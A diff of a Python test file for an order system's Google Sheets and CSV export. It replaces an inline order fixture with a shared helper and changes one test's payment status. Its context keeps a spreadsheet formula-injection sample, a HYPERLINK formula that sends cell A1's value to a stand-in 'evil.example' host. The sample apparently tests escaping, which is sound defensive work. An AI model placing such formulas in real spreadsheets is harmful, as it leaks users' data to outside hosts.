@@ -44,49 +44,14 @@ from orderhub.delivery.integrations.sheets.google import (
     column_letter,
     quote_sheet,
 )
+from tests.fixtures.orders import api_order
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
 
 
 def order(order_id: str | None = None, **changes: Any) -> dict[str, Any]:
     """An order as the API presents it (`OrderOut`)."""
-    address = {
-        "street": "123 Main St",
-        "city": "New York",
-        "state": "NY",
-        "zipCode": "10001",
-        "country": "USA",
-    }
-    body: dict[str, Any] = {
-        "id": order_id or str(uuid.uuid4()),
-        "customerId": "cust_abc123",
-        "customerEmail": "john.doe@example.com",
-        "customerName": "John Doe",
-        "items": [
-            {"id": "item_1", "name": "Product A", "quantity": 2, "price": 29.99},
-            {"id": "item_2", "name": "Product B", "quantity": 1, "price": 49.99},
-        ],
-        "totalAmount": 109.97,
-        "shippingAmount": 0,
-        "taxAmount": 0,
-        "discountAmount": 0,
-        "currency": "usd",
-        "shippingAddress": address,
-        "billingAddress": None,
-        "metadata": None,
-        "status": "pending",
-        "paymentStatus": "pending",
-        "paymentIntentId": None,
-        "trackingNumber": None,
-        "refunds": [],
-        "refundedAmount": 0,
-        "paidAt": None,
-        "cancelledAt": None,
-        "createdAt": "2025-11-29T10:30:00.000Z",
-        "updatedAt": "2025-11-29T10:30:00.000Z",
-    }
-    body.update(changes)
-    return body
+    return api_order(order_id, **changes)
 
 
 def row(order_id: str, version: int, **changes: Any) -> SheetRow:
@@ -148,7 +113,7 @@ async def test_csv_upsert_by_order_id_in_place(csv_path: Path) -> None:
     writer = CsvSheetWriter(csv_path)
     a, b = new_id(), new_id()
     await writer.upsert([row(a, 1), row(b, 1)])
-    await writer.upsert([row(a, 2, status="processing", paymentStatus="paid")])
+    await writer.upsert([row(a, 2, status="processing", paymentStatus="completed")])
 
     records = read_csv(csv_path)
     assert [r[0] for r in records[1:]] == [a, b]  # same position
